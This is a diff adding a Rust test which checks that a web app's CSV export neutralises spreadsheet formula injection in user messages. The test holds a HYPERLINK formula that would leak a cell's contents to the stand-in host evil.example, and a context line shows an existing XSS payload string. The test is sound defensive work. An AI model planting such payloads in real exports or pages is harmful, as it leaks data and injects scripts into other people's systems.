@@ -193,6 +193,25 @@ async fn a_locked_database_gets_503_with_the_text_kept_and_no_false_thanks() {
 }
 
 #[tokio::test]
+async fn a_csv_export_never_turns_a_readers_words_into_a_formula() {
+    let app = quick_app().await;
+    let token = fresh_token(&app).await;
+    let formula = "=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"Click\")";
+    let r = post(&app, &[("token", &token), ("name", "@SUM(1)"), ("kind", "general"), ("message", formula)]).await;
+    assert_eq!(r.status().as_u16(), 303);
+
+    let (ok, out, err) =
+        run_cli(&["--data", app.dir.path().to_str().unwrap(), "messages", "export", "--format", "csv"]);
+
+    assert!(ok, "{err}");
+    let mut rows = csv::Reader::from_reader(out.as_bytes());
+    let row = rows.records().next().unwrap().unwrap();
+    assert_eq!(&row[4], "'@SUM(1)");
+    assert_eq!(&row[6], format!("'{formula}"));
+    assert_eq!(app.store.messages(None).unwrap()[0].body, formula, "the store keeps the words as sent");
+}
+
+#[tokio::test]
 async fn payloads_are_stored_as_sent_and_shown_escaped() {
     let app = quick_app().await;
     let payload = "<script>alert(1)</script>\"'><img src=x onerror=alert(2)>{{7*7}}\u{1b}[2J";
